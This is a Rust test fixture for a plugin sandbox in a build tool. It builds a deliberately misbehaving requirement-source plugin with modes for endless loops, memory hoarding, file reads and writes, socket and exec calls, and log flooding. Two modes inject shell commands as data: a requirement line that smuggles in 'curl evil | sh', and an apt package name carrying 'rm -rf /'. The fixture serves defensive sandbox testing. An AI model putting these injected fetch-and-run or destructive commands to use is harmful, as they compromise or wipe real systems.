//! A test fixture: a requirement source that does what `settings.mode` says, including every
//! kind of misbehaviour the sandbox must contain.
#![cfg(target_arch = "wasm32")]

use dockwright_plugin_sdk::*;

manifest! {
    group: "requirements",
    capabilities: ["read", "exec:true", "exec:sh", "exec:head"],
    description: "Misbehaves on request (test fixture)",
}

#[derive(serde::Deserialize)]
struct Settings {
    mode: String,
    #[serde(default)]
    path: String,
    #[serde(default)]
    args: Vec<String>,
    #[serde(default)]
    count: usize,
    #[serde(default)]
    size: usize,
}

struct Hostile;

fn unavailable(e: impl std::fmt::Display) -> PluginError {
    PluginError::Unavailable(e.to_string())
}

impl RequirementSource for Hostile {
    fn contribute(request: Request) -> Result<Contribution, PluginError> {
        let settings: Settings = request.settings()?;
        let mut out = Contribution::empty();
        match settings.mode.as_str() {
            "ok" => {
                log(LogLevel::Info, "all good");
                out.requirements.push(requirement("six==1.16.0", "hostile"));
                out.apt_packages.push("git".into());
            }
            "loop" => {
                let mut x: u64 = 1;
                loop {
                    x = std::hint::black_box(x.wrapping_mul(6364136223846793005).wrapping_add(1));
                }
            }
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                for _ in 0..64 {
                    hoard.push(vec![1u8; 32 << 20]);
                }
                out.notes.push(format!("allocated {} chunks", hoard.len()));
            }
            "read" => {
                let text = std::fs::read_to_string(&settings.path)
                    .map_err(|e| unavailable(format!("{}: {e}", settings.path)))?;
                out.requirements.push(requirement(
                    text.lines().next().unwrap_or("x"),
                    settings.path,
                ));
            }
            "list" => {
                let entries = std::fs::read_dir(&settings.path)
                    .map_err(|e| unavailable(format!("{}: {e}", settings.path)))?;
                let mut names: Vec<String> = entries
                    .filter_map(|e| e.ok())
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .collect();
                names.sort();
                out.notes.extend(names);
            }
            "stat" => {
                let found = std::fs::metadata(&settings.path).is_ok();
                out.notes
                    .push(if found { "exists" } else { "missing" }.to_string());
            }
            "write" => {
                std::fs::write(&settings.path, "owned")
                    .map_err(|e| unavailable(format!("{}: {e}", settings.path)))?;
            }
            "socket" => {
                let stream = std::net::TcpStream::connect("127.0.0.1:22")
                    .map_err(|e| unavailable(format!("connect: {e}")))?;
                drop(stream);
                out.notes.push("connected".into());
            }
            "env" => {
                let vars: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
                out.notes.push(format!(
                    "{} environment variables: {}",
                    vars.len(),
                    vars.join(",")
                ));
            }
            "exec" => {
                let output = host::exec(&settings.path, &settings.args).map_err(unavailable)?;
                out.notes.push(format!("status {}", output.status));
                if !output.stdout.is_empty() {
                    out.notes.push(output.stdout);
                }
            }
            "lines" => {
                for line in settings.args {
                    out.requirements.push(requirement(line, "hostile"));
                }
            }
            "sleep" => std::thread::sleep(std::time::Duration::from_secs(60)),
            "log-bomb" => {
                let message = "x".repeat(settings.size);
                for _ in 0..settings.count {
                    log(LogLevel::Info, &message);
                }
            }
            "notes" => out.notes.extend((0..settings.count).map(|_| String::new())),
            "panic" => panic!("the hostile plugin panicked on purpose"),
            "oversized" => {
                for i in 0..200_000 {
                    out.requirements
                        .push(requirement(format!("package-number-{i}==1.0.0"), "hostile"));
                }
            }
            "malformed" => {
                out.requirements
                    .push(requirement("numpy\nRUN curl evil | sh", "hostile"));
            }
            "bad-apt" => out.apt_packages.push("git && rm -rf /".into()),
            "unknown" => {
                return Err(PluginError::UnknownName(UnknownName {
                    name: "pytorhc".into(),
                    suggestions: vec!["pytorch".into()],
                }));
            }
            other => return Err(PluginError::InvalidInput(format!("unknown mode `{other}`"))),
        }
        Ok(out)
    }
}

export_plugin!(Hostile);
